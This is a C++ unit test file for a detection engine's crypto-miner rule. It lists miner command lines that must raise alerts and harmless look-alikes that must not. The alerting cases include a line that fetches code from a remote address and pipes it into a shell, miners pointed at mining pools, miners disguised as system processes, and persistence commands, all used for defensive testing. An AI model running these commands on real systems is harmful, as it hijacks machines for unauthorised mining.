#include "detect/stream.h"

#include <cstdlib>
#include <filesystem>
#include <fstream>

#include <gtest/gtest.h>

#include "base/json.h"

namespace detect {
namespace {

constexpr std::string_view kMiner = "5d0c7c4e-3b0f-4a53-9a55-0d2a8c1c7e11";

class TempDir {
 public:
  TempDir() : path_(::testing::TempDir() + "detectXXXXXX") {
    EXPECT_NE(::mkdtemp(path_.data()), nullptr);
  }
  ~TempDir() { std::filesystem::remove_all(path_); }
  TempDir(const TempDir&) = delete;
  TempDir& operator=(const TempDir&) = delete;
  const std::string& path() const { return path_; }
  void write(const std::string& name, std::string_view text) const {
    std::ofstream(path_ + "/" + name) << text;
  }

 private:
  std::string path_;
};

schema::Event process(std::string executable, std::string command_line) {
  schema::ProcessCreate item;
  item.executable = std::move(executable);
  item.command_line = std::move(command_line);
  item.process_id = 4242;
  item.user_id = "0";
  item.user_name = "root";
  schema::Event event;
  event.id = base::Guid::derived("stream_test", item.command_line);
  event.payload = schema::payload_of(std::move(item));
  return event;
}

std::vector<Finding> findings(Stream& stream, const schema::Event& event) {
  std::vector<Finding> out;
  stream.match(event, 0, {"device-1", "agent", base::WallTime{}, 7}, out);
  return out;
}

std::unique_ptr<Stream> load(const std::string& folder = {}) {
  auto stream = Stream::load(folder);
  EXPECT_TRUE(stream) << stream.error().to_string();
  return std::move(*stream);
}

TEST(Stream, BuiltInRulesAllLoad) {
  const auto stream = load();
  EXPECT_EQ(stream->problems().size(), 0U) << stream->problems().front().to_string();
  EXPECT_EQ(stream->rules().size(), builtin_rules().size());
  for (const RuleInfo& rule : stream->rules()) {
    EXPECT_FALSE(rule.description.empty()) << rule.title;
    EXPECT_FALSE(rule.remediation.empty()) << rule.title;
    EXPECT_FALSE(rule.techniques.empty()) << rule.title;
    EXPECT_FALSE(rule.tactics.empty()) << rule.title;
  }
}

struct Command {
  const char* executable;
  const char* command_line;
};

TEST(CryptoCoinMiner, IsRaised) {
  const auto stream = load();
  for (const Command& command : std::initializer_list<Command>{
           {"/usr/bin/dash", "sh -c echo cpuminer-multi"},
           {"/usr/bin/bash", "bash -c echo cpuminer-multi"},
           {"/usr/bin/dash", "/bin/sh -c 'echo cpuminer-multi'"},
           {"/tmp/xmrig", "./xmrig -c config.json"},
           {"/opt/XMRig/xmrig-notls", "xmrig-notls"},
           {"/home/pi/minerd", "minerd -a scrypt -o http://pool.example:9327"},
           {"/var/tmp/cpuminer-avx2", "[kworker/0:1]"},
           {"/usr/local/bin/t-rex", "t-rex -a kawpow -o pool.example:4444 -u wallet"},
           {"/tmp/.X11/kworker",
            "/tmp/.X11/kworker -o stratum+tcp://pool.example.org:4444 -u 44AF"},
           {"/tmp/a", "a -o STRATUM+SSL://1.2.3.4:443"},
           {"/dev/shm/sshd", "sshd --donate-level=1 --url pool"},
           {"/dev/shm/x", "x --donate-level 1"},
           {"/tmp/k", "k --algo rx/0 --url pool.example:3333"},
           {"/tmp/k", "k -a cryptonight-lite -u w"},
           {"/usr/bin/apt-get", "apt-get install -y xmrig"},
           {"/usr/bin/nohup", "nohup /opt/.cache/xmrig"},
           {"/usr/bin/bash", "bash -c cd /tmp; ./xmrig & disown"},
           {"/usr/bin/bash", "bash -c grep -q model /proc/cpuinfo && /tmp/xmrig"},
           {"/usr/bin/dash", "sh -c \"wget -q http://198.51.100.7/xmrig|sh\""},
           {"/usr/bin/systemctl", "systemctl enable --now xmrig"},
           // What calls itself a searching tool but does not lie where those do.
           {"/tmp/grep", "grep -o stratum+tcp://pool.example:3333 -u w"}}) {
    const auto found = findings(*stream, process(command.executable, command.command_line));
    ASSERT_EQ(found.size(), 1U) << command.executable << " " << command.command_line;
    EXPECT_EQ(found[0].rule.id, kMiner);
    EXPECT_FALSE(found[0].evidence.matched.empty());
  }
}

TEST(CryptoCoinMiner, IsNotRaisedForLookAlikes) {
  const auto stream = load();
  for (const Command& command : std::initializer_list<Command>{
           {"/usr/bin/grep", "grep -r xmrig /var/log"},
           {"/usr/bin/dash", "sh -c grep -r xmrig /var/log"},
           {"/usr/bin/sudo", "sudo grep -rn stratum+tcp:// /etc"},
           {"/usr/bin/vim", "vim notes-about-cpuminer.txt"},
           {"/usr/bin/vim.basic", "vim cpuminer-multi"},
           {"/usr/bin/apt-get", "apt-get remove xmrig"},
           {"/usr/bin/apt-get", "apt-get purge -y xmrig"},
           {"/usr/bin/sudo", "sudo apt-get purge -y xmrig"},
           {"/usr/bin/dpkg",
            "/usr/bin/dpkg --status-fd 21 --no-triggers --force-depends --remove xmrig:amd64"},
           {"/usr/bin/dpkg", "dpkg -l xmrig"},
           {"/usr/bin/apt-cache", "apt-cache policy xmrig"},
           {"/usr/bin/dnf", "dnf -y erase xmrig"},
           {"/usr/bin/pgrep", "pgrep -f xmrig"},
           {"/usr/bin/pkill", "pkill -9 xmrig"},
           {"/usr/bin/rm", "rm -rf /opt/xmrig"},
           {"/usr/bin/find", "find / -name xmrig -type f"},
           {"/usr/bin/systemctl", "systemctl stop xmrig"},
           {"/usr/bin/systemctl", "systemctl disable --now xmrig"},
           {"/usr/bin/journalctl", "journalctl -u xmrig"},
           {"/usr/bin/man", "man xmrig"},
           {"/usr/bin/docker",
            "docker run -d --name miner-exporter registry.local/metrics/minerva:1.2"},
           {"/usr/bin/python3.11", "python3 /srv/minerdata/report.py --miner 3"},
           {"/usr/bin/tar", "tar xf cpuminer.tar.gz"},
           {"/usr/sbin/named", "named -u bind -4"},
           {"/usr/bin/gminerva", "gminerva --pool x"},
           {"/usr/bin/play", "play t-rex.wav"},
           {"/usr/bin/curl", "curl https://docs.example/--donate-levels"},
           {"/usr/bin/ssh", "ssh -o ServerAliveInterval=30 miner@host"},
           {"/usr/bin/ls", "ls -a cryptonight"},
           {"/usr/bin/node", "node determinerd.js"}}) {
    const auto found = findings(*stream, process(command.executable, command.command_line));
    EXPECT_EQ(found.size(), 0U) << command.executable << " " << command.command_line << "\n"
                                << (found.empty() ? "" : found[0].evidence.matched[0].pattern);
  }
}

TEST(Stream, AFindingSaysWhoWhatAndWhy) {
  const auto stream = load();
  const auto event = process("/usr/bin/dash", "sh -c echo cpuminer-multi");
  const auto found = findings(*stream, event);
  ASSERT_EQ(found.size(), 1U);
  const Finding& finding = found[0];
  EXPECT_EQ(finding.device_id, "device-1");
  EXPECT_EQ(finding.module_id, "agent");
  EXPECT_EQ(finding.entity, "/usr/bin/dash root");
  EXPECT_EQ(finding.sequence, 7U);
  EXPECT_EQ(finding.hits, 1);
  EXPECT_EQ(finding.rule.severity, Severity::Medium);
  EXPECT_EQ(finding.rule.techniques, std::vector<std::string>{"T1496.001"});
  EXPECT_EQ(finding.evidence.event_id, event.id);
  EXPECT_EQ(finding.evidence.event_name, "ProcessCreate");
  ASSERT_FALSE(finding.evidence.matched.empty());
  EXPECT_EQ(finding.evidence.matched[0].field, "CommandLine");
  EXPECT_EQ(finding.evidence.matched[0].value, "sh -c echo cpuminer-multi");
  EXPECT_EQ(finding.evidence.matched[0].found, "cpuminer-multi");
  EXPECT_TRUE(finding.why.ends_with("mines crypto currency. CommandLine has 'cpuminer-multi'."))
      << finding.why;
  const auto details = base::json::parse(finding.evidence.details_json);
  ASSERT_TRUE(details);
  EXPECT_EQ(details->text_or("CommandLine", ""), "sh -c echo cpuminer-multi");
}

TEST(Stream, TakesTheUsersRulesAndReportsBadOnes) {
  const TempDir dir;
  dir.write("a_good.yml",
            "title: Mine\nlogsource: {category: process_creation}\n"
            "detection: {s: {Image: /x}, condition: s}\n");
  dir.write("b_broken.yml",
            "title: Broken\nlogsource: {category: process_creation}\n"
            "detection: {s: {Imag: /x}, condition: s}\n");
  dir.write("c_other.yml",
            "title: Other\nlogsource: {product: windows}\ndetection: {s: {A: /x}, condition: s}\n");
  dir.write("d_noise.yml", "{{{{");
  dir.write("e_replaced.yml", "title: Quiet miner\nid: " + std::string(kMiner) +
                                  "\nlogsource: {category: process_creation}\n"
                                  "detection: {s: {Image: /never}, condition: s}\n");
  dir.write("readme.txt", "not a rule");
  const auto stream = load(dir.path());
  ASSERT_EQ(stream->problems().size(), 3U);
  EXPECT_EQ(
      stream->problems()[0].to_string().substr(dir.path().size()),
      "/b_broken.yml:3:17: expected a field of ProcessCreate or ExtraDetails.<name>, found 'Imag' "
      "(did you mean 'Image'?)");
  EXPECT_FALSE(stream->problems()[0].no_events);
  EXPECT_TRUE(stream->problems()[1].no_events);
  EXPECT_EQ(stream->problems()[2].line, 1);
  EXPECT_EQ(findings(*stream, process("/x", "x")).size(), 1U);
  EXPECT_EQ(findings(*stream, process("/tmp/xmrig", "xmrig")).size(), 0U)
      << "replaced by the user's";
}

TEST(Stream, RefusesAnEntityThatIsNoField) {
  const TempDir dir;
  dir.write("a.yml",
            "title: Mine\nlogsource: {category: process_creation}\n"
            "detection: {s: {Image: /x}, condition: s}\nvedette: {entity: [Image, Usr]}\n");
  const auto stream = load(dir.path());
  ASSERT_EQ(stream->problems().size(), 1U);
  EXPECT_NE(stream->problems()[0].message.find("found 'Usr'"), std::string::npos);
  EXPECT_EQ(findings(*stream, process("/x", "x")).size(), 0U);
}

TEST(Stream, AnAbsentFolderIsFine) {
  EXPECT_EQ(load("/nonexistent/detections")->problems().size(), 0U);
}

// Cases of a catalogue of alerts, where somebody has put it.
TEST(CryptoCoinMiner, AgreesWithTheCatalogue) {
  const char* named = std::getenv("VEDETTE_SHARED");
  const char* source = std::getenv("VEDETTE_SOURCE_DIR");
  const std::string shared = named != nullptr    ? named
                             : source != nullptr ? std::string(source) + "/../shared"
                                                 : "";
  std::ifstream file(shared + "/corpora/agent_alert_cases.jsonl");
  if (!file) GTEST_SKIP() << "no corpora/agent_alert_cases.jsonl in VEDETTE_SHARED or ../shared";
  const auto stream = load();
  std::string line;
  int cases = 0;
  int others = 0;
  while (std::getline(file, line)) {
    const auto test = base::json::parse(line);
    ASSERT_TRUE(test);
    const auto* event = test->find("event");
    if (event == nullptr || event->text_or("Name", "") != "ProcessCreate") continue;
    const auto* payload = event->find("Payload");
    const auto found = findings(*stream, process(std::string(payload->text_or("Executable", "")),
                                                 std::string(payload->text_or("CommandLine", ""))));
    const std::string alert(test->text_or("alert", ""));
    if (alert == "Crypto coin miner image") {
      ++cases;
      EXPECT_EQ(found.size(), *test->find("positive")->if_bool() ? 1U : 0U) << line;
    } else if (alert != "Crypto coin miner container image detected") {
      ++others;
      EXPECT_EQ(found.size(), 0U) << line;
    }
  }
  EXPECT_GE(cases, 2);
  EXPECT_GE(others, 50);
}

}  // namespace
}  // namespace detect
